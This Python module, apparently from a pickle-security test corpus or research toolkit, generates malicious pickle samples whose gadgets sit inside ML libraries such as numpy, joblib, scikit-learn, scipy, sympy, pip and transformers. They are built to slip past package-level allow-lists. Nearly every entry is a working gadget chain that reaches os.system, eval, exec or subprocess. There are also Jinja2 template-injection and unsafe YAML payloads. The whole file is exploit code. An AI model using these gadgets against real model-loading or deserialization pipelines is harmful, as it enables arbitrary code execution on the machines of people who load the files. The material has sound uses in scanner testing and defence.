"""Raw pickles whose gadget lies inside a machine-learning framework or a library that comes with one.

The names start with a package that allow-lists tend to trust as a whole. Each was found in the installed versions
(torch 2.13, numpy 2.4, scikit-learn 1.9, joblib 1.6, sympy 1.14, …) by reading their source.
"""

from __future__ import annotations

from .asm import Build, Call, Global
from .pickle_torch import SYSTEM, family, nested, written
from .sample import Kit, Sample

G, C = Global, Call


def samples() -> list[Sample]:
    """All of this module."""
    return [*_numpy(), *_joblib(), *_others()]


def _numpy() -> list[Sample]:
    return family(
        "numpy",
        {
            "runstring": lambda k: C(G("numpy.testing._private.utils.runstring"), k.code, {}),
            "runstring-public": lambda k: C(G("numpy.testing.runstring"), k.code, {}),
            "measure": lambda k: C(G("numpy.testing.measure"), k.code, 1),
            "f2py-getlincoef": lambda k: C(G("numpy.f2py.crackfortran.getlincoef"), k.code, {}),
            "f2py-myeval": lambda k: C(G("numpy.f2py.crackfortran.myeval"), k.code, {}, {}),
            "f2py-param-eval": lambda k: C(G("numpy.f2py.crackfortran.param_eval"), k.code, {}, {}),
            "f2py-eval-length": lambda k: C(G("numpy.f2py.crackfortran._eval_length"), f"({k.code})", {}),
            "distutils-exec-command": lambda k: C(G("numpy.distutils.exec_command.exec_command"), k.shell),
            "memmap": lambda k: C(G("numpy.memmap"), k.path, "uint8", "w+", 0, (4,)),
            "save": lambda k: C(G("numpy.savetxt"), k.path, [1.0]),
            "tofile": lambda k: C(G("numpy", "ndarray.tofile"), C(G("numpy.arange"), 3), k.path),
            "dump": lambda k: C(G("numpy", "ndarray.dump"), C(G("numpy.arange"), 3), k.path),
            "open-memmap": lambda k: C(G("numpy.lib.format.open_memmap"), k.path, "w+", "uint8", (4,)),
            "load": lambda k: C(G("numpy.load"), C(G("io.BytesIO"), nested(k)), None, True),
            "loads-of-object-array": lambda k: C(
                G("numpy.lib.format.read_array"), C(G("io.BytesIO"), _object_array(k)), True
            ),
            "vectorize": lambda k: C(C(G("numpy.vectorize"), SYSTEM), k.shell),
            "frompyfunc": lambda k: C(C(G("numpy.frompyfunc"), SYSTEM, 1, 1), k.shell),
            "fromiter": lambda k: C(G("numpy.fromiter"), C(G("builtins.map"), SYSTEM, [k.shell]), "int32"),
            "apply-along-axis": lambda k: C(
                G("numpy.fromfunction"),
                C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,)),
                (1,),
            ),
            "piecewise": lambda k: C(
                G("numpy.apply_over_axes"),
                C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,)),
                C(G("numpy.zeros"), 2),
                0,
            ),
            "builtins-of-numpy": lambda k: C(C(G("builtins", "dict.get"), G("numpy", "__builtins__"), "eval"), k.code),
            "ctypeslib": lambda k: C(
                C(
                    G("builtins.getattr"),
                    C(G("numpy.ctypeslib.load_library"), "libc.so.6", "/lib/x86_64-linux-gnu"),
                    "system",
                ),
                k.shell.encode(),
            ),
            "os-of-numpy": lambda k: C(G("numpy.lib._datasource", "os.system"), k.shell),
            "sys-of-numpy": lambda k: C(
                C(
                    G("builtins.getattr"),
                    C(G("builtins", "dict.get"), G("numpy.lib._datasource", "os.sys.modules"), "posix"),
                    "system",
                ),
                k.shell,
            ),
            "array-of-object": lambda k: C(
                G("numpy.array"), C(G("builtins.list"), C(G("builtins.map"), SYSTEM, [k.shell]))
            ),
            "array-interface": lambda k: C(
                G("numpy.asarray"),
                C(
                    C(
                        G("builtins.type"),
                        "X",
                        (),
                        {
                            "__array__": C(
                                G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,)
                            )
                        },
                    )
                ),
            ),
        },
        f2py_getlincoef=("numpy.f2py.crackfortran.getlincoef",),
        builtins_of_numpy=("numpy.__builtins__", "builtins.dict.get"),
        load=("numpy.load", "os.system", "posix.system"),
    )


def _object_array(kit: Kit) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + nested(kit)


def _joblib() -> list[Sample]:
    return [
        *family(
            "joblib",
            {
                "load": lambda k: C(G("joblib.load"), C(G("io.BytesIO"), nested(k))),
                "numpy-pickle-load": lambda k: C(G("joblib.numpy_pickle.load"), C(G("io.BytesIO"), nested(k))),
                "batched-calls": lambda k: C(
                    G("joblib.parallel", "BatchedCalls.__call__"),
                    C(
                        G("joblib.parallel.BatchedCalls"),
                        [(SYSTEM, (k.shell,), {})],
                        C(G("joblib._parallel_backends.SequentialBackend")),
                    ),
                ),
                "delayed-parallel": lambda k: C(C(G("joblib.Parallel")), [(SYSTEM, (k.shell,), {})]),
                "loky-reconstruct": lambda k: C(
                    G("joblib.externals.loky.cloudpickle_wrapper._reconstruct_wrapper"), nested(k), False
                ),
                "loky-wrapper": lambda k: C(
                    C(G("joblib.externals.loky.cloudpickle_wrapper.CallableObjectWrapper"), SYSTEM), k.shell
                ),
                "loky-call-item": lambda k: C(
                    C(G("joblib.externals.loky.process_executor._CallItem"), 1, SYSTEM, (k.shell,), {})
                ),
                "memory-call": lambda k: C(
                    G("joblib.memory", "NotMemorizedFunc.__call__"),
                    C(G("joblib.memory.NotMemorizedFunc"), SYSTEM),
                    k.shell,
                ),
                "run-command": lambda k: C(G("joblib.testing", "subprocess.getoutput"), k.shell),
                "dump": lambda k: C(G("joblib.dump"), 1, k.path),
                "disk-mkdirp": lambda k: C(G("joblib.disk.mkdirp"), k.path),
            },
        ),
        *family(
            "sklearn",
            {
                "func-wrapper": lambda k: C(C(G("sklearn.utils.parallel._FuncWrapper"), SYSTEM), k.shell),
                "function-transformer": lambda k: C(
                    G("sklearn.preprocessing", "FunctionTransformer.transform"),
                    C(G("sklearn.preprocessing.FunctionTransformer"), SYSTEM),
                    k.shell,
                ),
                "compose-callable": lambda k: C(G("sklearn.utils.fixes", "platform.os.system"), k.shell),
                "bunch-setstate": lambda k: C(G("sklearn.datasets._base", "os.system"), k.shell),
                "cached": lambda k: C(G("sklearn.datasets._rcv1", "joblib.dump"), 1, k.path),
            },
            compose_callable=("sklearn.utils.fixes.platform.os.system", "os.system", "posix.system"),
            bunch_setstate=("sklearn.datasets._base.os.system", "os.system", "posix.system"),
        ),
    ]


def _others() -> list[Sample]:
    return [
        *family(
            "scipy",
            {
                "bunch": lambda k: C(G("scipy._lib._testutils", "os.system"), k.shell),
                "lowlevel": lambda k: C(
                    G("builtins.list"), C(C(G("scipy._lib._util.MapWrapper"), 1), SYSTEM, [k.shell])
                ),
                "minimize": lambda k: C(
                    G("scipy.optimize.brute"),
                    C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,)),
                    [(0, 1)],
                ),
                "savemat": lambda k: C(G("scipy.io.savemat"), k.path, {}, False),
                "wavfile": lambda k: C(G("scipy.io.wavfile.write"), k.path, 8000, C(G("numpy.zeros"), 4, "int16")),
            },
        ),
        *family(
            "sympy",
            {
                "sympify": lambda k: C(G("sympy.sympify"), f"__import__('os').system('{k.shell}')"),
                "parse-expr": lambda k: C(
                    G("sympy.parsing.sympy_parser.parse_expr"), f"__import__('os').system('{k.shell}')"
                ),
                "lambdify": lambda k: C(C(G("sympy.lambdify"), [], k.code)),
                "eval-expr": lambda k: C(G("sympy.parsing.sympy_parser.eval_expr"), k.code, {}, {}),
                "symbol": lambda k: C(G("sympy.core.sympify.sympify"), f"__import__('os').system('{k.shell}')"),
            },
        ),
        *family(
            "jinja2",
            {
                "template": lambda k: C(G("jinja2", "Template.render"), C(G("jinja2.Template"), _jinja(k))),
                "native": lambda k: C(
                    G("jinja2.nativetypes", "NativeTemplate.render"),
                    C(G("jinja2.nativetypes.NativeTemplate"), _jinja(k)),
                ),
            },
        ),
        *family(
            "yaml",
            {
                "unsafe-load": lambda k: C(G("yaml.unsafe_load"), f"!!python/object/apply:os.system ['{k.shell}']"),
                "load-loader": lambda k: C(
                    G("yaml.load"), f"!!python/object/apply:os.system ['{k.shell}']", G("yaml.UnsafeLoader")
                ),
            },
        ),
        *family(
            "cloudpickle",
            {
                "loads": lambda k: C(G("cloudpickle.loads"), nested(k)),
                "subimport": lambda k: C(
                    C(G("builtins.getattr"), C(G("cloudpickle.cloudpickle.subimport"), "os"), "system"), k.shell
                ),
                "builtin-type": lambda k: C(
                    C(C(G("cloudpickle.cloudpickle._builtin_type"), "MethodType"), SYSTEM, k.shell)
                ),
            },
        ),
        *family(
            "setuptools",
            {
                "spawn": lambda k: C(G("setuptools._distutils.spawn.spawn"), k.argv),
                "write-file": lambda k: C(G("setuptools._distutils.file_util.write_file"), k.path, []),
            },
        ),
        *family(
            "pip",
            {
                "main": lambda k: C(G("pip.main"), ["config", "--user", "debug", "--log", k.path]),
                "call-subprocess": lambda k: C(
                    Build(
                        C(G("functools.partial"), G("pip._internal.utils.subprocess.call_subprocess")),
                        (G("pip._internal.utils.subprocess.call_subprocess"), (k.argv,), {"command_desc": "x"}, None),
                    )
                ),
                "resolve": lambda k: C(
                    C(G("pip._vendor.pygments.formatters.load_formatter_from_file"), written("f.py", k))
                ),
            },
            main=("pip.main",),
        ),
        *family(
            "fsspec",
            {
                "touch": lambda k: C(
                    G("fsspec.implementations.local", "LocalFileSystem.touch"),
                    C(G("fsspec.implementations.local.LocalFileSystem")),
                    k.path,
                ),
            },
        ),
        *family(
            "huggingface_hub",
            {
                "subprocess": lambda k: C(G("huggingface_hub.utils._subprocess.run_subprocess"), k.argv),
            },
        ),
        *family(
            "transformers",
            {
                "os": lambda k: C(G("transformers.dynamic_module_utils", "os.system"), k.shell),
                "import": lambda k: C(
                    C(
                        G("builtins.getattr"),
                        C(G("transformers.dynamic_module_utils", "importlib.import_module"), "os"),
                        "system",
                    ),
                    k.shell,
                ),
            },
        ),
        *family(
            "networkx",
            {
                "write": lambda k: C(G("networkx.write_gml"), C(G("networkx.Graph")), k.path),
            },
        ),
        *family(
            "mpmath",
            {
                "identify": lambda k: C(G("mpmath.libmp.backend.exec_"), k.code, {}, {}),
            },
        ),
    ]


def _jinja(kit: Kit) -> str:
    return "{{ cycler.__init__.__globals__.os.system('" + kit.shell + "') }}"
